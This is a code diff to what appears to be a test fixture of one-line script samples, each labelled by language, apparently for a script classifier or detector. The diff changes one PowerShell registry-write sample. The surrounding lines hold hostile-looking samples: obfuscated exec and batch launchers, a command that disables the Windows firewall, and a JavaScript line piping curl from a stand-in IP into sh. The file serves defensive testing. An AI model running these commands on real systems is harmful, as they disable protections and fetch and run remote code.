@@ -24,7 +24,7 @@ LINES = [
     ("_ = lambda x: __import__('zlib').decompress(x);exec(_(b'=='))", Kind.PYTHON),
     ("%comspec:~0,1%md /c calc", Kind.BATCH),
     ("s^e^t x=c&&call %x%alc", Kind.BATCH),
-    ("$a = 1\nreg add HKCU\\x /v y /d $a /f\n", Kind.POWERSHELL),
+    ("$a = Get-Date\nreg add HKCU\\x /v y /d $a /f\nWrite-Host $env:TEMP", Kind.POWERSHELL),
     ("netsh advfirewall set allprofiles state off", Kind.BATCH),
     ("Execute(Chr(101)&Chr(120)&Chr(105))", Kind.VBSCRIPT),
     ('require("child_process").exec("curl http://198.51.100.1|sh")', Kind.JAVASCRIPT),
